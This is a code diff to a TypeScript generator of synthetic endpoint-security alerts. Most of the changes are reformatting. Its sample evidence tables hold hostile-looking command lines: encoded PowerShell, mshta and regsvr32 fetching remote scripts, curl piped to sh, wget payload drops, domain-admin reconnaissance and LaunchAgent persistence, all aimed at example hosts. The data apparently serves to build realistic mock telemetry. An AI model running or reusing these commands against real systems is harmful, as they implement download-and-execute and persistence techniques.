@@ -1,6 +1,13 @@
 import { toMdeTime } from "../core/clock.js";
 import { createRandom, type Random } from "../core/random.js";
-import { ALERT_TEMPLATES, ANALYST_COMMENTS, type AlertTemplate, DETERMINATIONS, type EvidenceKind, INVESTIGATION_STATES } from "./alert-catalog.js";
+import {
+  ALERT_TEMPLATES,
+  type AlertTemplate,
+  ANALYST_COMMENTS,
+  DETERMINATIONS,
+  type EvidenceKind,
+  INVESTIGATION_STATES,
+} from "./alert-catalog.js";
 import { alertId } from "./identifiers.js";
 import type { MachineRef } from "./machine-factory.js";
 import type { ProfileUser, TenantProfile } from "./tenant-profile.js";
@@ -52,19 +59,44 @@ export function buildAlertContext(profile: TenantProfile, machines: readonly Mac
 }
 
 const EVIDENCE_KEYS = [
-  "entityType", "evidenceCreationTime", "sha1", "sha256", "fileName", "filePath", "processId", "processCommandLine",
-  "processCreationTime", "parentProcessId", "parentProcessCreationTime", "parentProcessFileName", "parentProcessFilePath",
-  "ipAddress", "url", "registryKey", "registryHive", "registryValueType", "registryValue", "accountName", "domainName",
-  "userSid", "aadUserId", "userPrincipalName", "detectionStatus",
+  "entityType",
+  "evidenceCreationTime",
+  "sha1",
+  "sha256",
+  "fileName",
+  "filePath",
+  "processId",
+  "processCommandLine",
+  "processCreationTime",
+  "parentProcessId",
+  "parentProcessCreationTime",
+  "parentProcessFileName",
+  "parentProcessFilePath",
+  "ipAddress",
+  "url",
+  "registryKey",
+  "registryHive",
+  "registryValueType",
+  "registryValue",
+  "accountName",
+  "domainName",
+  "userSid",
+  "aadUserId",
+  "userPrincipalName",
+  "detectionStatus",
 ] as const;
 
 const PROCESSES: Record<string, ReadonlyArray<readonly [string, string, string]>> = {
   windows: [
-    ["powershell.exe", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0", "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"],
+    [
+      "powershell.exe",
+      "C:\\Windows\\System32\\WindowsPowerShell\\v1.0",
+      "powershell.exe -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA",
+    ],
     ["rundll32.exe", "C:\\Windows\\SysWOW64", "rundll32.exe  c:\\users\\public\\update.dll,RepeatAfterMe"],
-    ["cmd.exe", "C:\\Windows\\System32", "cmd.exe /c whoami /all && net group \"domain admins\" /domain"],
+    ["cmd.exe", "C:\\Windows\\System32", 'cmd.exe /c whoami /all && net group "domain admins" /domain'],
     ["mshta.exe", "C:\\Windows\\System32", "mshta.exe https://cdn-update.example.net/p.hta"],
-    ["wmic.exe", "C:\\Windows\\System32\\wbem", "wmic.exe process call create \"c:\\programdata\\svc.exe\""],
+    ["wmic.exe", "C:\\Windows\\System32\\wbem", 'wmic.exe process call create "c:\\programdata\\svc.exe"'],
     ["regsvr32.exe", "C:\\Windows\\System32", "regsvr32.exe /s /u /i:https://files.example.org/a.sct scrobj.dll"],
   ],
   linux: [
@@ -73,26 +105,57 @@ const PROCESSES: Record<string, ReadonlyArray<readonly [string, string, string]>
     ["wget", "/usr/bin", "wget -q -O /tmp/.cache/kworker http://203.0.113.80/k"],
   ],
   macos: [
-    ["osascript", "/usr/bin", "osascript -e do shell script \"curl -fsSL https://cdn.example.com/i.sh | sh\""],
+    ["osascript", "/usr/bin", 'osascript -e do shell script "curl -fsSL https://cdn.example.com/i.sh | sh"'],
     ["zsh", "/bin", "zsh -c launchctl load ~/Library/LaunchAgents/com.apple.updater.plist"],
   ],
 };
 const PARENTS: Record<string, ReadonlyArray<readonly [string, string]>> = {
-  windows: [["explorer.exe", "C:\\Windows"], ["winword.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16"], ["services.exe", "C:\\Windows\\System32"], ["wmiprvse.exe", "C:\\Windows\\System32\\wbem"]],
-  linux: [["nginx", "/usr/sbin"], ["sshd", "/usr/sbin"], ["cron", "/usr/sbin"]],
-  macos: [["launchd", "/sbin"], ["Terminal", "/System/Applications/Utilities/Terminal.app/Contents/MacOS"]],
+  windows: [
+    ["explorer.exe", "C:\\Windows"],
+    ["winword.exe", "C:\\Program Files\\Microsoft Office\\root\\Office16"],
+    ["services.exe", "C:\\Windows\\System32"],
+    ["wmiprvse.exe", "C:\\Windows\\System32\\wbem"],
+  ],
+  linux: [
+    ["nginx", "/usr/sbin"],
+    ["sshd", "/usr/sbin"],
+    ["cron", "/usr/sbin"],
+  ],
+  macos: [
+    ["launchd", "/sbin"],
+    ["Terminal", "/System/Applications/Utilities/Terminal.app/Contents/MacOS"],
+  ],
 };
 const FILES: Record<string, ReadonlyArray<readonly [string, string]>> = {
-  windows: [["update.dll", "c:\\users\\public"], ["invoice_0423.docm", "C:\\Users\\{user}\\Downloads"], ["svc.exe", "C:\\ProgramData"], ["mimi.exe", "C:\\Windows\\Temp"], ["xmrig.exe", "C:\\Users\\{user}\\AppData\\Local\\Temp"]],
-  linux: [["kworker", "/tmp/.cache"], ["x.sh", "/var/tmp"], ["shell.php", "/var/www/html/uploads"]],
-  macos: [["com.apple.updater.plist", "/Users/{user}/Library/LaunchAgents"], ["updater", "/Users/{user}/.local"]],
+  windows: [
+    ["update.dll", "c:\\users\\public"],
+    ["invoice_0423.docm", "C:\\Users\\{user}\\Downloads"],
+    ["svc.exe", "C:\\ProgramData"],
+    ["mimi.exe", "C:\\Windows\\Temp"],
+    ["xmrig.exe", "C:\\Users\\{user}\\AppData\\Local\\Temp"],
+  ],
+  linux: [
+    ["kworker", "/tmp/.cache"],
+    ["x.sh", "/var/tmp"],
+    ["shell.php", "/var/www/html/uploads"],
+  ],
+  macos: [
+    ["com.apple.updater.plist", "/Users/{user}/Library/LaunchAgents"],
+    ["updater", "/Users/{user}/.local"],
+  ],
 };
-const DOMAINS = ["cdn-update.example.net", "login-microsoftonline.example.com", "files.example.org", "paste.example.io", "drive-share.example.com"];
+const DOMAINS = [
+  "cdn-update.example.net",
+  "login-microsoftonline.example.com",
+  "files.example.org",
+  "paste.example.io",
+  "drive-share.example.com",
+];
+
+const EMPTY_EVIDENCE: Readonly<Record<string, unknown>> = Object.freeze(Object.fromEntries(EVIDENCE_KEYS.map((k) => [k, null])));
 
 function emptyEvidence(): Record<string, unknown> {
-  const item: Record<string, unknown> = {};
-  for (const k of EVIDENCE_KEYS) item[k] = null;
-  return item;
+  return { ...EMPTY_EVIDENCE };
 }
 
 function evidenceItem(
@@ -205,18 +268,30 @@ export function generateAlert(random: Random, ctx: AlertContext, spec: AlertSpec
   let classification: string | null = null;
   let determination: string | null = null;
   if (status === "Resolved" || (status === "InProgress" && random.bool(0.3))) {
-    classification = random.weighted([["TruePositive", 5], ["InformationalExpectedActivity", 3], ["FalsePositive", 2]] as const);
+    classification = random.weighted([
+      ["TruePositive", 5],
+      ["InformationalExpectedActivity", 3],
+      ["FalsePositive", 2],
+    ] as const);
     determination = random.bool(0.9) ? random.pick(DETERMINATIONS[classification] ?? ["Other"]) : null;
   }
-  const investigated = (template.detectionSource === "WindowsDefenderAtp" || template.detectionSource === "WindowsDefenderAv") && machine.family === "windows" && random.bool(0.65);
+  const investigated =
+    (template.detectionSource === "WindowsDefenderAtp" || template.detectionSource === "WindowsDefenderAv") &&
+    machine.family === "windows" &&
+    random.bool(0.65);
   const investigationId = investigated ? 10_000 + random.int(0, 9_000_000) : null;
   let investigationState = investigated ? random.weighted(INVESTIGATION_STATES) : "UnsupportedAlertType";
-  if (investigated && status === "Resolved" && (investigationState === "Running" || investigationState === "Queued")) investigationState = "Benign";
+  if (investigated && status === "Resolved" && (investigationState === "Running" || investigationState === "Queued"))
+    investigationState = "Benign";
   const comments: Array<{ comment: string; createdBy: string; createdTime: string }> = [];
   const commentCount = status === "New" ? (random.bool(0.1) ? 1 : 0) : random.int(0, 2);
   for (let i = 0; i < commentCount; i++) {
     const at = creationMs + Math.floor(((i + 1) / (commentCount + 1)) * (lastUpdateMs - creationMs));
-    comments.push({ comment: random.pick(ANALYST_COMMENTS), createdBy: random.pick(ctx.profile.analysts), createdTime: toMdeTime(at, random.int(0, 9999)) });
+    comments.push({
+      comment: random.pick(ANALYST_COMMENTS),
+      createdBy: random.pick(ctx.profile.analysts),
+      createdTime: toMdeTime(at, random.int(0, 9999)),
+    });
   }
   const id = alertId(creationMs, creationTicks, spec.index, ctx.tenantSalt);
   const alert = {
